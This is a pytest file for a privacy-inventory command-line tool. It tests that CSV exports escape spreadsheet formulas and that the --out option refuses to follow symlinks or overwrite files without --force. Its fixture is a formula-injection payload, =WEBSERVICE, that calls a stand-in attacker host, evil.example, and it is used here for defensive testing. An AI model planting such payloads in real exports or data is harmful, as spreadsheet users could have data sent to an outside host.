"""Issue 17, inputs: the RoPA and countries CSV exports carry no live spreadsheet formula (a counterparty named
like a formula, a purpose titled like one), and --out never follows a link nor replaces a file without --force."""

from __future__ import annotations

import csv
import io

from tests.inventory.conftest import PO, cli, counterparty, j  # noqa: F401

FORMULA = '=WEBSERVICE("http://evil.example/")'


def test_countries_and_ropa_csv_carry_no_formula(cli, tmp_path):  # noqa: F811
    counterparty(cli, "third_party", country="US", name=FORMULA)
    out = tmp_path / "countries.csv"
    r = cli(*PO, "inventory", "countries", "--format", "csv", "--out", str(out))
    assert r.exit_code == 0, r.output
    (row,) = [r for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))) if r["country"] == "US"]
    assert row["name"] == "'" + FORMULA
    assert (out.stat().st_mode & 0o777) == 0o600
    # the same rule on stdout
    shown = list(csv.DictReader(io.StringIO(cli(*PO, "inventory", "countries", "--format", "csv").stdout)))
    assert [r["name"] for r in shown if r["country"] == "US"] == ["'" + FORMULA]
    ropa = list(csv.DictReader(io.StringIO(cli(*PO, "inventory", "ropa", "--format", "csv").stdout)))
    assert ropa and not [v for r in ropa for v in r.values() if v and v[0] in "=+-@\t\r"]


def test_inventory_out_never_follows_a_link_nor_replaces_a_file(cli, tmp_path):  # noqa: F811
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    link = tmp_path / "ropa.md"
    link.symlink_to(victim)
    for fmt in ("md", "csv", "json"):
        r = cli(*PO, "inventory", "ropa", "--format", fmt, "--out", str(link))
        lines = [ln for ln in r.stderr.splitlines() if ln.strip()]
        assert r.exit_code != 0 and len(lines) == 1 and "file_exists" in lines[0], r.output
    assert victim.read_text() == "precious\n" and link.is_symlink()
    r = cli(*PO, "inventory", "ropa", "--format", "md", "--out", str(link), "--force")
    assert r.exit_code == 0 and victim.read_text() == "precious\n" and not link.is_symlink()
    assert "Record of processing activities" in link.read_text(encoding="utf-8")
    # who may not read the inventory gets no file (R-23-2)
    denied = tmp_path / "denied.md"
    r = cli("--as", "sato", "inventory", "ropa", "--out", str(denied))
    assert r.exit_code == 3 and "R-23-2" in r.stderr and not denied.exists()
